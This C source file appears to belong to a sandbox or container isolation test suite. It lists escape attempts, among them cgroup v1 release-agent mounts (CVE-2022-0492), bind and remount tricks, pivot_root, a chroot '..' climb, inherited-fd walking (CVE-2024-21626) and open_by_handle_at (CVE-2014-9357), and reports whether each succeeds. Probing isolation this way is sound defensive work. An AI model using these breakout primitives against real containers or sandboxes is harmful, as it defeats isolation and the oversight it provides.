/* SPDX-License-Identifier: Apache-2.0 */
/* To mount, to take away what covers something, to change the root. Outside they are tried in a mount
 * namespace of their own, or the guest would keep what they do. */
#include "attempt.h"

#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <unistd.h>

#define FDS 1024
/* Deeper than any root lies. */
#define CLIMB 64

static int mount_tmpfs(const char *path)
{
    return attempt_result(mount("none", path, "tmpfs", 0, NULL));
}

/* CVE-2022-0492: the release agent of the old hierarchies. */
static int mount_cgroup_v1(const char *path)
{
    return attempt_result(mount("none", path, "cgroup", 0, "none,name=escape"));
}

static int mount_bind(const char *path)
{
    return attempt_result(mount("/", path, NULL, MS_BIND | MS_REC, NULL));
}

static int remount_writable(const char *path)
{
    return attempt_result(mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL));
}

static int set_writable(const char *path)
{
    struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY | MOUNT_ATTR_NODEV };

    return attempt_result(mount_setattr(AT_FDCWD, path, 0, &attr, sizeof(attr)));
}

static int uncover(const char *path)
{
    return attempt_result(umount2(path, MNT_DETACH));
}

static int open_file_system(const char *type)
{
    return attempt_result(fsopen(type, FSOPEN_CLOEXEC));
}

static int copy_tree(const char *path)
{
    return attempt_result(open_tree(AT_FDCWD, path, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC));
}

static int pivot(const char *path)
{
    /* The new root must be a mount, which outside a container it is from here on. */
    (void)mount("none", path, "tmpfs", 0, NULL);
    if (chdir(path) < 0)
        attempt_unclear("no such directory");
    return attempt_result(syscall(SYS_pivot_root, ".", "."));
}

/* The working directory stays outside of the new root, and ".." leads on from there. marker: a file that only
 * the guest's root has. */
static int climb_from_chroot(const char *marker)
{
    char jail[] = "/tmp/jailXXXXXX";

    if (!mkdtemp(jail) || chroot(jail) < 0)
        return -errno;
    for (int i = 0; i < CLIMB; i++)
        if (chdir("..") < 0)
            return -errno;
    if (chroot(".") < 0)
        return -errno;
    return attempt_result(access(marker, F_OK));
}

/* CVE-2024-21626: an inherited fd of a directory outside. */
static int walk_from_inherited(const char *marker)
{
    for (int fd = STDERR_FILENO + 1; fd < FDS; fd++) {
        if (fchdir(fd) < 0)
            continue;
        for (int i = 0; i < CLIMB; i++)
            if (chdir("..") < 0)
                break;
        if (access(marker + (marker[0] == '/'), F_OK) == 0)
            return 0;
    }
    return -EBADF;
}

/* CVE-2014-9357 and its like: a file by its number, wherever it lies. */
static int open_by_handle(const char *path)
{
    struct {
        struct file_handle head;
        unsigned char room[MAX_HANDLE_SZ];
    } handle = { .head.handle_bytes = MAX_HANDLE_SZ };
    int id, fd;

    if (name_to_handle_at(AT_FDCWD, path, &handle.head, &id, 0) < 0)
        return -errno;
    fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0)
        return -errno;
    return attempt_result(open_by_handle_at(fd, &handle.head, O_RDONLY | O_CLOEXEC));
}

const struct attempt attempts_on_mounts[] = {
    { "mount-tmpfs", mount_tmpfs },
    { "mount-cgroup-v1", mount_cgroup_v1 },
    { "mount-bind", mount_bind },
    { "remount-writable", remount_writable },
    { "set-writable", set_writable },
    { "uncover", uncover },
    { "fsopen", open_file_system },
    { "open-tree", copy_tree },
    { "pivot-root", pivot },
    { "climb-from-chroot", climb_from_chroot },
    { "walk-from-inherited", walk_from_inherited },
    { "open-by-handle", open_by_handle },
    { NULL, NULL },
};
